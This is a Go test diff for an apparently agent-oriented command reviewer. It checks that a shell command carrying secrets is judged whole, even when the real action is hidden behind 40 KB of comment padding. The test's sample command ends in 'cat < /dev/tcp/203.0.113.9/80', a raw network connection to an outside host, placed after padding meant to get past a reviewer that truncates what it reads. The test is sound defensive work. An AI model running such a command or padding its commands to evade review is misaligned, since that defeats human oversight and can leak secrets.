@@ -279,6 +279,45 @@ func TestLocalNameAsksNobody(t *testing.T) {
 	})
 }
 
+// G9, G26: a reviewer judges all of a command, however little of it a question keeps; what passed is then recognised.
+func TestReviewedWhole(t *testing.T) {
+	bubble(t, func(r *rig) {
+		secret := func(r *verdict.Request) { r.Container.Taint = []string{"secret"} }
+		text := "make # " + strings.Repeat("a", 40<<10) + "\ncat < /dev/tcp/203.0.113.9/80"
+		r.Configure(cop.Static{}, false, 0, 0)
+		r.ask(curl(secret, asking(text))).gives(verdict.Deny, verdict.Flagged)
+		if f := Foresee(t.Context(), curl(secret, asking(text)), cop.Static{}, false); f.Reason != verdict.Flagged {
+			t.Errorf("foreseen: %+v", f)
+		}
+		var seen string
+		r.Configure(reviewer(func(c cop.Case) (cop.Opinion, error) {
+			seen = c.Command
+			return cop.Opinion{Reason: "fine"}, nil
+		}), false, 0, 0)
+		r.ask(curl(secret, asking(text))).gives(verdict.Allow, verdict.Passed)
+		if seen != text {
+			t.Errorf("the reviewer was given %d bytes of %d", len(seen), len(text))
+		}
+		whole := func(r *verdict.Request) { shell("")(r); r.Process.Argv = []string{"bash", "-c", text} }
+		r.ask(curl(secret, whole)).gives(verdict.Allow, verdict.Recognised)
+		r.ask(curl(secret, asking("make # "+strings.Repeat("a", cop.MaxCase)))).gives(verdict.Allow, verdict.Passed)
+
+		guarded, err := cop.New(cop.Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer guarded.Close()
+		r.Configure(guarded, false, 0, 0)
+		r.ask(curl(secret, asking("make # "+strings.Repeat("a", cop.MaxCase)))).gives(verdict.Deny, verdict.NoApprover)
+		r.wantCount(verdict.CopTooLarge, 1)
+		for _, e := range r.log.events {
+			if len(e.Command) > 33<<10 {
+				t.Errorf("an event has %d bytes of a command", len(e.Command))
+			}
+		}
+	})
+}
+
 // G1, G26: what was said under less taint counts for nothing once there is more.
 func TestMoreTaintVoids(t *testing.T) {
 	bubble(t, func(r *rig) {
